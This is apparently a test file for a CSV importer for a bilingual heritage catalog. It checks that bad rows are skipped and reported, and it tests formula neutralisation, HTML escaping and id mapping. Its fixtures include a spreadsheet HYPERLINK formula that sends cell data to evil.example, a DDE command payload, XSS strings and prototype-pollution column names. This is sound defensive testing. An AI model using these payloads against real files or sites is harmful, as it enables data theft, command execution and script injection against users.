/**
 * Bad inputs (shared/bad-inputs.md) inside otherwise readable files. Policy: a bad row is skipped
 * and reported with file, line and reason; the valid rows of the same file import.
 */
import test from 'ava';
import { translate } from '../../core/i18n/translate.ts';
import { fixtures } from '../fixtures/ingest/index.ts';
import { query } from '../helpers/temp-archive.ts';
import { describeEntry, importPaths, openWorkspace, storedIds, writtenReport } from './helpers/import-files.ts';
import { catalogRows } from '../helpers/catalog-sql.ts';

const SPREADSHEET_FORMULA = /^[=+\-@\t\r]/;

test("row 3: formula cells are stored verbatim, and neutralised with a leading ' in the CSV report", async (t) => {
  const archive = openWorkspace(t);
  const report = await importPaths(archive, [fixtures.formulaCellsCsv]);
  t.like(archive.catalog.getRecord('formula-1')?.record, {
    title_zh: '=HYPERLINK("http://evil.example/?"&A1,"click")',
    title_en: '+1+1',
    description_en: '-2+3',
    keywords_en: ['@SUM(A1:A9)'],
  });
  const { csvRows, json } = await writtenReport(archive, report);
  const formulaId = "=cmd|' /C calc'!A0";
  t.deepEqual(
    csvRows.filter((row) => row.code === 'problem.year_unrecognised').map((row) => [row.line, row.id]),
    [['3', `'${formulaId}`]],
  );
  t.true(json.entries.some((entry) => entry.id === formulaId), 'the JSON report keeps the raw value');
  const cells = csvRows.flatMap((row) => Object.values(row));
  t.deepEqual(cells.filter((cell) => SPREADSHEET_FORMULA.test(cell)), []);
});

test("row 3: a report for a file whose name starts with '=' neutralises the file cell too", async (t) => {
  const archive = openWorkspace(t);
  const file = archive.write('=1+1.csv', 'id,title_zh,start_year\nbad,坏年份,MCMXC\n');
  const { csvRows } = await writtenReport(archive, await importPaths(archive, [file]));
  t.deepEqual(csvRows.map((row) => row.file), ["'=1+1.csv"]);
});

test('row 3: a leading tab is trimmed like any surrounding whitespace, so no cell is stored starting with one', async (t) => {
  const archive = openWorkspace(t);
  const file = archive.write('tab.csv', 'id,title_zh,title_en\ntab-1,"\t=1+2","\tplain "\n');
  await importPaths(archive, [file]);
  t.like(archive.catalog.getRecord('tab-1')?.record, { title_zh: '=1+2', title_en: 'plain' });
});

test('row 4: HTML in fields is stored verbatim; the report carries the raw text in a well-formed CSV', async (t) => {
  const archive = openWorkspace(t);
  const report = await importPaths(archive, [fixtures.htmlCellsCsv]);
  t.like(archive.catalog.getRecord('html-1')?.record, {
    title_zh: '<img src=x onerror=alert(1)>',
    title_en: '<script>alert("x")</script>',
    description_en: 'Tom & Jerry, "quoted", <b>bold</b>',
  });
  const hostile = '<img src=x onerror=alert(1)>, "and"\nmore';
  t.deepEqual(report.entries.map(describeEntry), ['3 type problem.not_in_vocabulary']);
  const { csvText, csvRows } = await writtenReport(archive, report);
  // Parsed strictly (no relaxed quotes or column counts): every row has the header's 8 cells.
  t.deepEqual(
    csvRows.map((row) => [row.line, row.field, Object.keys(row).length]),
    [['3', 'type', 8]],
  );
  t.true(csvRows[0]!.message_en!.includes(`"${hostile}"`));
  t.true(csvText.includes('<img src=x onerror=alert(1)>'), 'escaping is for the pages that show the report, not the file');
});

test('row 4: search highlights escape the HTML of an imported record', async (t) => {
  const archive = openWorkspace(t);
  await importPaths(archive, [fixtures.htmlCellsCsv]);
  const [hit] = (await archive.engine.search(query({ text: 'onerror' }))).hits;
  t.is(hit?.record.id, 'html-1');
  const highlighted = Object.values(hit?.highlights ?? {}).join(' ');
  t.false(/<(img|script|b)\b/.test(highlighted), highlighted);
  t.true(highlighted.includes('&lt;'));
});

test('row 7: unknown columns are ignored, listed in the report, and never assigned to the record', async (t) => {
  const archive = openWorkspace(t);
  const report = await importPaths(archive, [fixtures.unknownColumnsCsv]);
  t.deepEqual(report.files[0]?.unknownColumns, ['seq', 'content_hash', 'created_at', 'import_id', '__proto__', 'constructor', 'notes']);
  t.false(report.hasFailures());
  const row = catalogRows(archive.catalog, "SELECT * FROM records WHERE id = 'unknown-1'")[0]!;
  t.not(row.seq, 999);
  t.regex(String(row.content_hash), /^[0-9a-f]{64}$/);
  t.not(row.created_at, '1970-01-01');
  t.not(row.import_id, 42);
  t.false('notes' in row);
  t.deepEqual(Object.keys(archive.catalog.getRecord('unknown-1')!.record).sort(), ['id', 'title_zh']);
  t.is(({} as Record<string, unknown>).polluted, undefined);
});

test('row 8: one invalid row among valid ones: the valid rows import and the invalid one is in the CSV report with line and reason', async (t) => {
  const archive = openWorkspace(t);
  const report = await importPaths(archive, [fixtures.oneInvalidRowCsv]);
  t.deepEqual(report.totals(), { created: 2, updated: 0, unchanged: 0, failed: 1 });
  t.deepEqual(storedIds(archive), ['valid-1', 'valid-2']);
  const { csvRows } = await writtenReport(archive, report);
  t.deepEqual(csvRows, [
    {
      file: fixtures.oneInvalidRowCsv,
      line: '3',
      id: 'invalid-1',
      severity: 'error',
      field: 'lat',
      code: 'problem.out_of_range',
      message_zh: 'lat：应在 -90 到 90 之间，实际为 200',
      message_en: 'lat: expected a number between -90 and 90 but received 200',
    },
  ]);
});

test('row 10: an id repeated within a file is skipped, naming the line where it first appeared', async (t) => {
  const archive = openWorkspace(t);
  const report = await importPaths(archive, [fixtures.duplicateIdsCsv]);
  t.deepEqual(report.entries.map((entry) => [entry.line, entry.id, entry.message.key, entry.message.params]), [
    [4, 'dup-1', 'row.duplicate_in_file', { id: 'dup-1', line: 2 }],
  ]);
  t.is(archive.catalog.getRecord('dup-1')?.record.title_zh, '第一次');
  t.deepEqual(report.totals(), { created: 2, updated: 0, unchanged: 0, failed: 1 });
});

test('row 10: an id already in the catalog is updated, skipped or refused as --on-existing says', async (t) => {
  const outcomes: Record<string, unknown> = {};
  for (const onExisting of ['update', 'skip', 'error'] as const) {
    const archive = openWorkspace(t);
    await importPaths(archive, [fixtures.duplicateIdsCsv]);
    const changed = archive.write('again.csv', 'id,title_zh\ndup-1,改过的\n');
    const report = await importPaths(archive, [changed], { onExisting });
    outcomes[onExisting] = [archive.catalog.getRecord('dup-1')?.record.title_zh, report.totals(), report.entries.map((entry) => `${entry.severity} ${entry.message.key}`)];
  }
  t.deepEqual(outcomes, {
    update: ['改过的', { created: 0, updated: 1, unchanged: 0, failed: 0 }, []],
    skip: ['第一次', { created: 0, updated: 0, unchanged: 1, failed: 0 }, ['warning row.exists_skipped']],
    error: ['第一次', { created: 0, updated: 0, unchanged: 0, failed: 1 }, ['error row.exists_error']],
  });
});

test('row 11: ids with spaces, `/`, Chinese or 200 characters map to safe slugs with the original kept; 300 characters is refused', async (t) => {
  const archive = openWorkspace(t);
  const report = await importPaths(archive, [fixtures.unsafeIdsCsv]);
  const originals = ['Grand Canal 01', 'GC/2024/001', '广济桥', 'x'.repeat(200)];
  const stored = catalogRows<{ id: string; identifier: string }>(archive.catalog, 'SELECT id, identifier FROM records ORDER BY seq');
  t.deepEqual(
    stored.map((row) => row.identifier),
    originals,
  );
  for (const { id } of stored) t.regex(id, /^[a-z0-9][a-z0-9_-]{0,127}$/);
  t.deepEqual(report.entries.map((entry) => `${entry.line} ${entry.severity} ${entry.field} ${entry.message.key}`), [
    '2 warning id problem.id_mapped',
    '3 warning id problem.id_mapped',
    '4 warning id problem.id_mapped',
    '5 warning id problem.id_mapped',
    '6 error id problem.too_long',
  ]);
  t.is(translate('en', report.entries[1]!.message.key, report.entries[1]!.message.params), `id "GC/2024/001" is not a safe id; stored as "${stored[1]!.id}" with the original kept in identifier`);
  // The mapping is deterministic: importing again finds the same records.
  t.deepEqual((await importPaths(archive, [fixtures.unsafeIdsCsv])).totals(), { created: 0, updated: 0, unchanged: 4, failed: 1 });
});

test('row 14: MCMXC, start after end and latitude 200 are typed errors naming the field; 公元前221年 and -221 parse', async (t) => {
  const archive = openWorkspace(t);
  const report = await importPaths(archive, [fixtures.yearsAndCoordinatesCsv]);
  t.deepEqual(report.entries.map(describeEntry), ['2 start_year problem.year_unrecognised', '5 start_year problem.start_after_end', '6 lat problem.out_of_range']);
  t.deepEqual(
    report.entries.map((entry) => translate('en', entry.message.key, entry.message.params)),
    [
      'start_year: expected a year such as 1990, -3300, 3300 BCE or 公元前3300年 but received "MCMXC"',
      'start_year (1990) is after end_year',
      'lat: expected a number between -90 and 90 but received 200',
    ],
  );
  t.like(archive.catalog.getRecord('zh-bce')?.record, { start_year: -221, end_year: -207 });
  t.like(archive.catalog.getRecord('signed-bce')?.record, { start_year: -221, end_year: -207 });
  t.deepEqual(storedIds(archive), ['signed-bce', 'zh-bce']);
});

test('row 14: a BCE record imported from text is found by a BCE year range', async (t) => {
  const archive = openWorkspace(t);
  await importPaths(archive, [fixtures.yearsAndCoordinatesCsv]);
  const found = await archive.engine.search(query({ yearFrom: -210, yearTo: -100 }));
  t.deepEqual(found.hits.map((hit) => hit.record.id).sort(), ['signed-bce', 'zh-bce']);
});
